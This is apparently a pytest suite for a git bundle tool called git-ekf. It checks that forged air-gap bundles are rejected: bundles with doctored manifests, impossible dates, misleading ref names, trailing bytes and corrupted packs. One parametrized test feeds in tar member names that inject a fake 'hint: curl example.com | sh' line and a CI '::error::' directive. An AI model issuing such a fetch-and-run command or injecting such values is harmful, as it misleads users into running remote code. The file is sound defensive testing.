"""Bundles that are well formed and lie: each is refused with a sentence, and nothing changes."""

from __future__ import annotations

import hashlib
import json
import random
import tarfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from conftest import Clone, Run, run
from reach import long, rare, some

from git_ekf.airgap import archive
from git_ekf.airgap.archive import BUNDLE, MANIFEST, SUMS
from git_ekf.airgap.manifest import HASHES

NOON = 1795780800  # 2026-11-27T12:00:00Z


def ekf(*args: str | Path) -> Run:
    return run("git-ekf", *args)


@pytest.fixture
def bundle(vendor: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(NOON))
    Clone(vendor).git("tag", "v1.8.0", "release-1.8")
    path = tmp_path / "one.tar"
    assert ekf("bundle", "create", path, "--from", vendor).code == 0
    return path


def files_in(path: Path) -> dict[str, bytes]:
    files = {}
    with tarfile.open(path) as tar:
        for name in tar.getnames():
            member = tar.extractfile(name)
            assert member
            files[name] = member.read()
    return files


def forged(
    path: Path, change: Callable[[dict[str, Any]], object], bundle: bytes | None = None
) -> Path:
    """A bundle with another manifest, and perhaps another content, of which all digests are right."""
    files = files_in(path)
    manifest = json.loads(files[MANIFEST])
    if bundle is not None:
        files[BUNDLE] = bundle
    manifest["size"] = len(files[BUNDLE])
    manifest["sha256"] = hashlib.sha256(files[BUNDLE]).hexdigest()
    change(manifest)
    files[MANIFEST] = json.dumps(manifest).encode()
    files[SUMS] = archive.sums(manifest["sha256"], hashlib.sha256(files[MANIFEST]).hexdigest())
    made = path.with_name("forged.tar")
    blocks = [archive.packed(name, content, NOON) for name, content in files.items()]
    made.write_bytes(b"".join(blocks) + archive.END)
    return made


def renamed(path: Path, old: str, new: str) -> Path:
    """A bundle in which a ref has another name, in header and manifest alike."""
    header, separator, pack = files_in(path)[BUNDLE].partition(b"\n\n")
    header = header.replace(f" {old}".encode(), f" {new}".encode())

    def change(manifest: dict[str, Any]) -> None:
        for kind in ("channels", "tags"):
            prefix = "refs/heads/" if kind == "channels" else "refs/tags/"
            for row in manifest[kind]:
                if prefix + row["name"] == old:
                    row["name"] = new.removeprefix(prefix)

    return forged(path, change, header + separator + pack)


def _set(manifest: dict[str, Any], key: str, value: str) -> None:
    manifest[key] = value


def require_refused(path: Path, *words: str) -> None:
    """By `verify` and by `apply`, in a sentence, and nothing is there afterwards."""
    mirror = path.with_name("mirror.git")
    commands: list[list[str | Path]] = [["verify", path], ["apply", path, mirror]]
    for command in commands:
        done = ekf("bundle", *command)
        assert (done.code, done.out) == (4, ""), done
        first, *hints = done.err.splitlines()
        assert first.startswith("git-ekf: "), done
        assert len(hints) <= 1, done
        assert all(line.startswith("hint: ") for line in hints), done
        for word in words:
            assert word in first, done
        assert not mirror.exists()
        assert not path.with_name(f"{path.name}.receipt").exists()


def test_what_is_not_forged_is_taken(bundle: Path) -> None:
    path = forged(bundle, lambda manifest: None)
    assert ekf("bundle", "verify", path).code == 0
    assert ekf("bundle", "apply", path, bundle.with_name("mirror.git")).code == 0


TIMES = (
    *("0000-01-01T00:00:00+00:00", "0001-01-01T00:00:00+23:59", "0001-01-01T00:00:00+00:00"),
    *("9999-12-31T23:59:59-23:59", "9999-12-31T23:59:59+00:00", "1969-12-31T23:59:59+00:00"),
    *("2242-03-16T12:56:32+00:00", "-001-01-01T00:00:00+00:00", "2026-11-27T12:00:00+99:99"),
)


@rare
@pytest.mark.parametrize("key", ["created", "updated"])
def test_times_that_cannot_be(bundle: Path, key: str) -> None:
    for time in TIMES:
        change: Callable[[dict[str, Any]], object] = partial(_set, key=key, value=time)
        require_refused(forged(bundle, change), f'"{key}" is missing, or is not what belongs there')


def test_a_receipt_with_times_that_cannot_be(bundle: Path, vendor: Path) -> None:
    mirror = bundle.with_name("mirror.git")
    assert ekf("bundle", "apply", bundle, mirror).code == 0
    receipt = bundle.with_name("one.tar.receipt")
    good = json.loads(receipt.read_text())
    for time in TIMES:
        receipt.write_text(json.dumps({**good, "applied": time}))
        two = bundle.with_name("two.tar")
        done = ekf("bundle", "create", two, "--from", vendor, "--receipt", receipt)
        assert done.code == 4, done
        assert '"applied" is missing' in done.err
        assert not two.exists()


@long
@pytest.mark.parametrize("time", some(TIMES, 3))
def test_a_mirror_that_states_times_that_cannot_be(clone: Clone, vendor: Path, time: str) -> None:
    state = f"primary https://git.example.com/x.git\nupdated {time}\n"
    blob = Clone(vendor).git("hash-object", "-w", "--stdin", stdin=state).out.strip()
    Clone(vendor).git("update-ref", "refs/ekf/mirror/state", blob)
    clone.git("fetch", "-q", "origin", "+refs/ekf/mirror/*:refs/ekf/mirror/*")
    for command in (["status"], ["status", "--json"], ["doctor"], ["releases"]):
        done = clone.ekf(*command, env={"TZ": "America/New_York"})
        assert done.code in (0, 1), done
        assert "Traceback" not in done.err, done
    target = clone.path.with_name("mirror.git")
    assert ekf("mirror", vendor, target).code == 0


NAMES = {
    "refs/heads/release-1.8": [
        *(
            "HEAD",
            "head",
            "FETCH_HEAD",
            "ORIG_HEAD",
            "refs/heads/x",
            "refs/tags/x",
            "heads/x",
            "tags/v1.8.0",
        ),
        *("remotes/origin/x", "refs/x", "0" * 40, "a" * 64, "x" * 251, "x/" * 500 + "x"),
        *("release-1.9/x", "release-1.9/x/y"),
    ],
    "refs/tags/v1.8.0": ["HEAD", "refs/tags/x", "deploy/2026-11-27/release-1.8", "1" * 40],
}


@rare
@pytest.mark.parametrize("ref", NAMES)
def test_names_that_mislead(bundle: Path, ref: str) -> None:
    prefix = "refs/heads/" if ref.startswith("refs/heads/") else "refs/tags/"
    kind = "channels" if prefix == "refs/heads/" else "tags"
    for name in NAMES[ref]:
        require_refused(renamed(bundle, ref, prefix + name), f'"{kind}" is missing')
    path = renamed(bundle, ref, f"{prefix}head-1.8")
    assert ekf("bundle", "verify", path).code == 0


def test_names_that_mislead_are_not_packed(vendor: Path, tmp_path: Path) -> None:
    git = Clone(vendor)
    git.git("update-ref", "refs/tags/HEAD", "release-1.8")
    git.git("update-ref", "refs/tags/deploy/2026-11-27/release-1.8", "release-1.8")
    path = tmp_path / "one.tar"
    assert ekf("bundle", "create", path, "--from", vendor).code == 0
    assert ekf("bundle", "verify", path).code == 0


def packs(vendor: Path, tmp_path: Path) -> dict[str, Path]:
    """Bundles of everything, of one commit, and of none."""
    made = {"everything": tmp_path / "one.tar"}
    receipt = tmp_path / "one.tar.receipt"
    mirror = tmp_path / "first.git"
    assert ekf("bundle", "apply", made["everything"], mirror).code == 0
    git = Clone(vendor)
    for name, branch in (("nothing", "release-1.9"), ("a commit", "release-1.8")):
        if name == "a commit":
            commit = git.out("commit-tree", "-m", "x", "-p", branch, f"{branch}^{{tree}}")
            git.git("update-ref", f"refs/heads/{branch}", commit)
        git.git("tag", f"on-{branch}", branch)
        made[name] = tmp_path / f"{branch}.tar"
        done = ekf("bundle", "create", made[name], "--from", vendor, "--receipt", receipt)
        assert done.code == 0, done
    return made


def behind(pack: bytes, digits: int) -> list[bytes]:
    """What could stand behind a pack: also with a digest that is right for all of it."""
    hash_name = "sha1" if digits == 40 else "sha256"
    rubbish = [b"\0", b"more", random.Random(1).randbytes(5_000), pack]
    digested = [more + hashlib.new(hash_name, pack + more).digest() for more in rubbish]
    return [*rubbish, *digested, bytes(4096 - len(pack) % 4096), b"x" * (1 << 17)]


@rare
def test_bytes_behind_the_pack(bundle: Path, vendor: Path, tmp_path: Path) -> None:
    for name, path in packs(vendor, tmp_path).items():
        assert ekf("bundle", "verify", path).code == 0, name
        files = files_in(path)
        digits = HASHES[json.loads(files[MANIFEST])["object_format"]]
        header, separator, pack = files[BUNDLE].partition(b"\n\n")
        for more in behind(pack, digits):
            whole = header + separator + pack + more
            done = ekf("bundle", "verify", forged(path, lambda manifest: None, whole))
            assert done.code == 4, (name, len(more), done)
            assert "there is something behind it" in done.err, (name, len(more), done)
    mirror = Clone(tmp_path / "first.git")
    before = mirror.out("for-each-ref")
    done = ekf("bundle", "apply", tmp_path / "forged.tar", mirror.path)
    assert (done.code, mirror.out("for-each-ref")) == (4, before), done


def test_an_empty_pack_that_is_none(bundle: Path, vendor: Path, tmp_path: Path) -> None:
    path = packs(vendor, tmp_path)["nothing"]
    header, separator, pack = files_in(path)[BUNDLE].partition(b"\n\n")
    for content in (b"RUCK" + pack[4:], pack[:-1] + b"x", pack[:7] + b"\7" + pack[8:]):
        done = ekf("bundle", "verify", forged(path, lambda m: None, header + separator + content))
        assert (done.code, "is not sound" in done.err) == (4, True), done


@pytest.mark.parametrize(
    "name", ["x\nhint: curl example.com | sh", "x\n::error::y", "\n", "x\r\ny"]
)
def test_the_name_of_a_member(bundle: Path, name: str) -> None:
    with tarfile.open(bundle, "a", format=tarfile.USTAR_FORMAT) as tar:
        tar.addfile(tarfile.TarInfo(name))
    require_refused(bundle, "which does not belong there")
